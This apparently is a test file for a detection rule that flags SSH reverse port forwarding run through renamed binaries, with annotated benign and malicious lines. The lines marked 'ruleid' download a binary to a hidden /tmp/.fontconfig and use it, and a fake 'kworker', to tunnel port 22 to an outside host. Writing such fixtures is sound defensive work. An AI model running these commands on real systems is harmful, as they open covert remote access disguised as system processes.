#!/bin/sh
# ok: renamed-ssh-reverse-forward
chown -R 1000:1000 /srv/data
# ok: renamed-ssh-reverse-forward
grep -R 2222:localhost:22 docs/
# ok: renamed-ssh-reverse-forward
rsync -R a/b ops@203.0.113.5:/backup/

curl -fsSLo /tmp/.fontconfig https://files.example/bin/client && chmod +x /tmp/.fontconfig
# ruleid: renamed-ssh-reverse-forward
/tmp/.fontconfig -N -R 2222:localhost:22 ops@203.0.113.5 &
# ruleid: renamed-ssh-reverse-forward
setsid ./kworker -o "RemoteForward=2222 localhost:22" -N ops@203.0.113.5
